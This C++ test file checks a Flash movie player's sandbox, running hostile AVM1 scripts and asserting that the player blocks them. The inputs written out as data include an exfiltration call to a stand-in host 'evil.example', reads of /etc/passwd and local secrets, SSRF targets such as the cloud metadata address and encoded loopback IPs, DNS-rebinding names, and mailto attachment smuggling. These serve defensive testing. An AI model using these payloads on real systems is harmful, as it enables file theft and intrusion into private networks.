// What a movie may reach: hostile movies try to read files and addresses
// they may not and to send what they read; the table says what the network
// saw, which pages opened and what the movie got back.
#include "engine/avm1/script_engine.h"
#include "engine/core/limits.h"
#include "engine/display/loader.h"
#include "engine/display/player.h"
#include "engine/display/sandbox.h"
#include "tests/avm1/action_builder.h"
#include "tests/support/swf_writer.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>

#include <gtest/gtest.h>

#include <map>
#include <utility>
#include <sys/stat.h>

namespace {

using avm1test::Asm;
using swf::AddressKind;
using swf::Sandbox;
using Lines = std::vector<std::string>;

constexpr uint8_t kUseNetwork = 0x01;
constexpr char kSecret[] = "secret=42";
// Where files of the local cases live; "FILE/" in a case is replaced by it.
constexpr char kFolderMark[] = "FILE/";

// lv = new LoadVars(); lv.onData = function(s) { trace("got " + s) }; lv.load(url)
Asm loadVars(const std::string& url) {
    Asm a;
    a.push("lv").push(0).push("LoadVars").op(0x40).setVariable();
    a.getVariable("lv").push("onData").defineFunction("", {"s"}, Asm().push("got ").getVariable("s").op(0x47).trace());
    a.setMember();
    return a.push(url).push(1).getVariable("lv").push("load").callMethod().pop();
}

// System.security.loadPolicyFile(url)
Asm loadPolicyFile(const std::string& url) {
    return Asm().push(url).push(1).getVariable("System").push("security").getMember().push("loadPolicyFile")
        .callMethod().pop();
}

Asm getUrl(const std::string& url) { return Asm().getUrl(url, "_blank"); }

struct SandboxCase {
    const char* name;
    const char* movieUrl;  // where the movie came from ("FILE/" for a local folder)
    uint8_t fileAttributes;
    Asm script;
    Lines fetched;         // addresses the network was asked for, in order
    Lines opened;          // pages handed to the desktop
    Lines trace;
};

// A small web: what each address answers (missing ones answer 404).
const std::map<std::string, std::string> kWeb = {
    {"http://site.example/data.txt", "v=site"},
    {"http://other.example/data.txt", "v=other"},
    {"http://open.example/crossdomain.xml", "<cross-domain-policy><allow-access-from domain=\"*\"/></cross-domain-policy>"},
    {"http://open.example/data.txt", "v=open"},
    {"http://friend.example/crossdomain.xml",
     "<cross-domain-policy><allow-access-from domain=\"*.site.example\"/></cross-domain-policy>"},
    {"http://friend.example/data.txt", "v=friend"},
    {"http://other.example/sub/policy.xml",
     "<cross-domain-policy><allow-access-from domain=\"site.example\"/></cross-domain-policy>"},
    {"http://other.example/sub/data.txt", "v=sub"},
    {"http://10.0.0.5/data.txt", "v=lan"},
};

// What names resolve to; the rest lead to a public address.
const std::map<std::string, std::vector<std::string>> kDns = {
    {"rebind.example", {"10.1.2.3"}},
    {"mixed.example", {"203.0.113.7", "::1"}},
    {"nowhere.example", {}},
};

class SandboxTable : public testing::TestWithParam<SandboxCase> {};

TEST_P(SandboxTable, MovieReachesOnlyWhatItMay) {
    const SandboxCase& c = GetParam();
    QTemporaryDir dir;
    const std::string folder = dir.path().toStdString() + "/";
    auto local = [&](std::string s) {
        for (size_t at; (at = s.find(kFolderMark)) != std::string::npos;) s.replace(at, sizeof kFolderMark - 1, folder);
        return s;
    };
    QFile secret(dir.filePath(QStringLiteral("secret.txt")));
    ASSERT_TRUE(secret.open(QIODevice::WriteOnly));
    secret.write(kSecret);
    secret.close();
    ASSERT_EQ(::mkfifo((folder + "fifo").c_str(), 0600), 0);

    Lines fetched, opened, trace;
    std::vector<std::pair<std::string, swf::FetchDone>> waiting;
    swf::HostCallbacks host;
    host.trace = [&](const std::string& line) { trace.push_back(line); };
    host.openUrl = [&](const std::string& url, const std::string&) { opened.push_back(url); };
    swf::Player player(host);
    player.setScriptHostFactory(swf::avm1ScriptHostFactory());
    std::vector<std::pair<std::string, swf::ResolveDone>> lookups;
    player.setResolve([&](const std::string& host, swf::ResolveDone done) { lookups.emplace_back(host, std::move(done)); });
    player.setFetch([&](const std::string& url, const std::string&, const std::vector<uint8_t>&, size_t maxBytes,
                        swf::FetchDone done) {
        EXPECT_LE(maxBytes, swf::limits::kMaxLoadBytesInFlight);
        fetched.push_back(url);
        waiting.emplace_back(url, std::move(done));
    });

    swf::test::SwfWriter w(8, {0, 2000, 0, 2000}, 12);
    w.tag(69, {c.fileAttributes, 0, 0, 0});
    w.doAction(c.script.bytes()).showFrame();
    for (int i = 0; i < 6; ++i) w.showFrame();
    std::vector<uint8_t> bytes = w.bytes();
    // Local addresses in the script name the test's folder.
    const std::string raw(bytes.begin(), bytes.end());
    ASSERT_EQ(raw.find(kFolderMark), std::string::npos) << "paths are given through the folder";
    ASSERT_TRUE(player.load(std::move(bytes), local(c.movieUrl)).ok());
    for (int frame = 0; frame < 6; ++frame) {
        player.runFrame();
        for (auto& [host, done] : std::exchange(lookups, {})) {
            auto it = kDns.find(host);
            done(it == kDns.end() ? std::vector<std::string>{"203.0.113.7"} : it->second);
        }
        auto answers = std::move(waiting);
        waiting.clear();
        for (auto& [url, done] : answers) {
            auto it = kWeb.find(url);
            if (it == kWeb.end()) done(swf::FetchResult{false, 404, {}, "not found"});
            else done(swf::FetchResult{true, 200, std::vector<uint8_t>(it->second.begin(), it->second.end()), {}});
        }
    }
    EXPECT_EQ(fetched, c.fetched);
    EXPECT_EQ(opened, c.opened);
    Lines expectedTrace;
    for (const auto& line : c.trace) expectedTrace.push_back(local(line));
    EXPECT_EQ(trace, expectedTrace);
}

// Scripts naming local files use this folder's path through _url: the
// movie's own folder is where its files are.
Asm loadSibling(const std::string& name) {
    // lv.load(name), relative to the movie.
    return loadVars(name);
}

INSTANTIATE_TEST_SUITE_P(
    Hostile, SandboxTable,
    testing::Values(
        // Local movies: files or the network, never both.
        SandboxCase{"LocalReadsItsFiles", "FILE/m.swf", 0, loadSibling("secret.txt"), {}, {}, {"got secret=42"}},
        SandboxCase{"LocalWithFilesLoadsNoWebAddress", "FILE/m.swf", 0, loadVars("http://open.example/data.txt"),
                    {}, {}, {"got undefined"}},
        SandboxCase{"LocalWithFilesSendsNothing", "FILE/m.swf", 0,
                    Asm(loadSibling("secret.txt")).raw(getUrl("http://evil.example/?stolen").body()), {}, {},
                    {"got secret=42"}},
        SandboxCase{"LocalWithNetworkReadsNoFiles", "FILE/m.swf", kUseNetwork, loadSibling("secret.txt"), {}, {},
                    {"got undefined"}},
        SandboxCase{"LocalWithNetworkNeedsAPolicyForAll", "FILE/m.swf", kUseNetwork,
                    Asm(loadVars("http://friend.example/data.txt")),
                    {"http://friend.example/crossdomain.xml"}, {}, {"got undefined"}},
        SandboxCase{"LocalWithNetworkLoadsWhatAllMayRead", "FILE/m.swf", kUseNetwork,
                    loadVars("http://open.example/data.txt"),
                    {"http://open.example/crossdomain.xml", "http://open.example/data.txt"}, {}, {"got v=open"}},
        SandboxCase{"LocalWithNetworkOpensPages", "FILE/m.swf", kUseNetwork, getUrl("http://site.example/page"), {},
                    {"http://site.example/page"}, {}},
        SandboxCase{"NoDevicesOrPipes", "FILE/m.swf", 0,
                    Asm(loadVars("/dev/zero")).raw(loadSibling("fifo").body()).raw(loadSibling(".").body()), {}, {},
                    {"got undefined", "got undefined", "got undefined"}},
        // Web movies: their own site, or a site whose policy lets them in.
        SandboxCase{"WebReadsItsOwnSite", "http://site.example/m.swf", 0, loadVars("data.txt"),
                    {"http://site.example/data.txt"}, {}, {"got v=site"}},
        SandboxCase{"WebReadsNoLocalFile", "http://site.example/m.swf", 0,
                    Asm(loadVars("file:///etc/passwd")).raw(loadVars("/etc/passwd").body()),
                    {"http://site.example/etc/passwd"}, {}, {"got undefined", "got undefined"}},
        SandboxCase{"WebNeedsTheOtherSitesPolicy", "http://site.example/m.swf", 0,
                    loadVars("http://other.example/data.txt"), {"http://other.example/crossdomain.xml"}, {},
                    {"got undefined"}},
        SandboxCase{"WebReadsWhereThePolicyNamesItsDomain", "http://www.site.example/m.swf", 0,
                    loadVars("http://friend.example/data.txt"),
                    {"http://friend.example/crossdomain.xml", "http://friend.example/data.txt"}, {}, {"got v=friend"}},
        SandboxCase{"PolicyNamingAnotherDomainRefuses", "http://elsewhere.example/m.swf", 0,
                    loadVars("http://friend.example/data.txt"), {"http://friend.example/crossdomain.xml"}, {},
                    {"got undefined"}},
        SandboxCase{"LoadedPolicyFileCoversItsFolder", "http://site.example/m.swf", 0,
                    Asm(loadPolicyFile("http://other.example/sub/policy.xml"))
                        .raw(loadVars("http://other.example/sub/data.txt").body()),
                    {"http://other.example/crossdomain.xml", "http://other.example/sub/policy.xml",
                     "http://other.example/sub/data.txt"},
                    {}, {"got v=sub"}},
        SandboxCase{"LoadedPolicyFileCoversNothingAbove", "http://site.example/m.swf", 0,
                    Asm(loadPolicyFile("http://other.example/sub/policy.xml"))
                        .raw(loadVars("http://other.example/data.txt").body()),
                    {"http://other.example/crossdomain.xml", "http://other.example/sub/policy.xml"}, {},
                    {"got undefined"}},
        // Never the user's own machine or network from the internet.
        SandboxCase{"WebReachesNoLoopbackOrPrivateAddress", "http://site.example/m.swf", 0,
                    Asm(loadVars("http://127.0.0.1/data.txt"))
                        .raw(loadVars("http://localhost:8080/x").body())
                        .raw(loadVars("http://[::1]/x").body())
                        .raw(loadVars("http://10.0.0.5/data.txt").body())
                        .raw(loadVars("http://192.168.1.1/x").body())
                        .raw(loadVars("http://169.254.169.254/latest/meta-data/").body())
                        .raw(loadVars("http://2130706433/x").body()),
                    {}, {}, Lines(7, "got undefined")},
        SandboxCase{"WebReachesNoNameLeadingToAPrivateAddress", "http://site.example/m.swf", 0,
                    Asm(loadVars("http://rebind.example/data.txt"))
                        .raw(loadVars("http://mixed.example/x").body())
                        .raw(loadVars("http://nowhere.example/x").body()),
                    {}, {}, Lines(3, "got undefined")},
        SandboxCase{"WebOpensNoPrivatePage", "http://site.example/m.swf", 0, getUrl("http://192.168.1.1/reset"), {},
                    {}, {}},
        SandboxCase{"MovieFromThePrivateNetworkMayAskIt", "http://10.0.0.9/m.swf", 0,
                    loadVars("http://10.0.0.5/data.txt"), {"http://10.0.0.5/crossdomain.xml"}, {}, {"got undefined"}},
        // Pages: a few per user action, and mail without attachments.
        SandboxCase{"AFewPagesAtATime", "http://site.example/m.swf", 0,
                    Asm(getUrl("http://site.example/1"))
                        .raw(getUrl("http://site.example/2").body())
                        .raw(getUrl("http://site.example/3").body())
                        .raw(getUrl("http://site.example/4").body())
                        .raw(getUrl("http://site.example/5").body()),
                    {}, {"http://site.example/1", "http://site.example/2", "http://site.example/3"}, {}},
        SandboxCase{"MailLosesItsAttachments", "http://site.example/m.swf", 0,
                    getUrl("mailto:a@b.example?subject=hi&attach=/etc/passwd&Attachment=%2Fhome&%61ttach=x"), {},
                    {"mailto:a@b.example?subject=hi"}, {}}),
    [](const testing::TestParamInfo<SandboxCase>& i) { return std::string(i.param.name); });

TEST(Sandbox, AddressKindsOfLiteralHosts) {
    const std::pair<const char*, AddressKind> cases[] = {
        {"example.com", AddressKind::Public},     {"8.8.8.8", AddressKind::Public},
        {"127.0.0.1", AddressKind::Loopback},     {"127.1", AddressKind::Loopback},
        {"0x7f000001", AddressKind::Loopback},    {"2130706433", AddressKind::Loopback},
        {"localhost", AddressKind::Loopback},     {"a.localhost.", AddressKind::Loopback},
        {"[::1]", AddressKind::Loopback},         {"::ffff:127.0.0.1", AddressKind::Loopback},
        {"10.1.2.3", AddressKind::Private},       {"172.31.0.1", AddressKind::Private},
        {"172.32.0.1", AddressKind::Public},      {"192.168.0.1", AddressKind::Private},
        {"0.0.0.0", AddressKind::Private},        {"fd00::1", AddressKind::Private},
        {"169.254.169.254", AddressKind::LinkLocal}, {"fe80::1", AddressKind::LinkLocal},
        {"2001:db8::1", AddressKind::Public},
    };
    for (const auto& [host, kind] : cases) EXPECT_EQ(Sandbox::addressKind(host), kind) << host;
}

TEST(Sandbox, LoadsShareOneAllowancePerMovie) {
    Sandbox sandbox;
    const size_t first = sandbox.reserve(swf::limits::kMaxLoadBytesInFlight);
    EXPECT_EQ(first, swf::limits::kMaxLoadBytesInFlight);
    EXPECT_EQ(sandbox.reserve(100), 0u) << "nothing more under way at once";
    sandbox.release(first, first);
    EXPECT_EQ(sandbox.reserve(swf::limits::kMaxLoadBytesPerMovie), swf::limits::kMaxLoadBytesPerMovie - first);
    sandbox.reset();
    EXPECT_EQ(sandbox.reserve(10), 10u);
}

// A load that finds the allowance in flight taken waits for the loads under
// way instead of failing: movies load several clips at once.
TEST(Sandbox, LoadsStartedTogetherAllArrive) {
    QTemporaryDir dir;
    const std::string folder = dir.path().toStdString() + "/";
    for (const char* name : {"a.swf", "b.swf"}) {
        QFile file(QString::fromStdString(folder + name));
        ASSERT_TRUE(file.open(QIODevice::WriteOnly));
        file.write(name);
    }
    swf::Loader loader;
    std::vector<std::pair<std::string, swf::FetchDone>> fetching;
    loader.setFetch([&](const std::string& url, const std::string&, const std::vector<uint8_t>&, size_t,
                        swf::FetchDone done) { fetching.emplace_back(url, std::move(done)); });
    Lines got;
    auto load = [&](const std::string& url, const swf::Asker& asker) {
        loader.request(url, swf::limits::kMaxFileBytes,
                       [&got, url](swf::FetchResult& r) { got.push_back(url + (r.ok ? " ok" : " failed: " + r.error)); },
                       "GET", {}, asker);
    };
    const swf::Asker localMovie{folder + "m.swf", false};
    load(folder + "a.swf", localMovie);
    load(folder + "b.swf", localMovie);
    loader.poll();
    EXPECT_EQ(got, (Lines{folder + "a.swf ok", folder + "b.swf ok"}));

    got.clear();
    const swf::Asker webMovie{"http://site.example/m.swf", false};
    load("http://site.example/a.swf", webMovie);
    load("http://site.example/b.swf", webMovie);
    loader.poll();
    ASSERT_EQ(fetching.size(), 1u) << "the first load holds the whole allowance in flight";
    fetching[0].second(swf::FetchResult{true, 200, {1, 2, 3}, {}});
    loader.poll();
    ASSERT_EQ(fetching.size(), 2u) << "the second starts once the first ended";
    fetching[1].second(swf::FetchResult{true, 200, {4}, {}});
    loader.poll();
    EXPECT_EQ(got, (Lines{"http://site.example/a.swf ok", "http://site.example/b.swf ok"}));
}

} // namespace
